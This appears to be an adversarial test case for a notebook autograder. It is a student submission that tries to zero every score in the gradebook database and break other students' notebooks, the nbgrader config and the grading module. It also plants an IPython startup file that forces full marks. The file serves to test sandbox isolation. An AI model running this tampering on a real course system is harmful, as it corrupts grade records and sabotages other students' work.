"""Write the gradebook (10/10 for itself, 0 for others), another student's notebook, nbgrader_config.py,
convlearn/grading and an IPython startup file in HOME; try every path, known or searched.

expect: 0
"""
# %% conv_full
import glob
import os
import sqlite3


def search(name):
    """Every file called ``name`` the kernel can see (links not followed: ``/proc`` alone would never end)."""
    found = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        found += [os.path.join(root, f) for f in files if f == name]
    return found


targets = {
    "gradebook": ["__COURSE__/gradebook.db"] + search("gradebook.db")[:5],
    "config": ["__COURSE__/nbgrader_config.py"],
    "other": glob.glob("__COURSE__/submitted/*/a2_discrete1d/a2_discrete1d.ipynb"),
    "grading": ["__REPO__/convlearn/grading/__init__.py"],
}
for path in targets["gradebook"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0")
        db.commit()
    except Exception as exc:
        print("gradebook", path, exc)
for key in ("config", "other", "grading"):
    for path in targets[key]:
        try:
            with open(path, "a") as fh:
                fh.write("\nraise SystemExit('harmed')\n")
        except Exception as exc:
            print(key, path, exc)
for home in ["__HOME__", os.path.expanduser("~")]:
    try:
        os.makedirs(f"{home}/.ipython/profile_default/startup", exist_ok=True)
        with open(f"{home}/.ipython/profile_default/startup/00-harm.py", "w") as fh:
            fh.write("import convlearn.grading as g\ng.Checks.earned = lambda self: self.points\n")
    except Exception as exc:
        print("home", home, exc)


def convolve_full(x, k):
    raise NotImplementedError
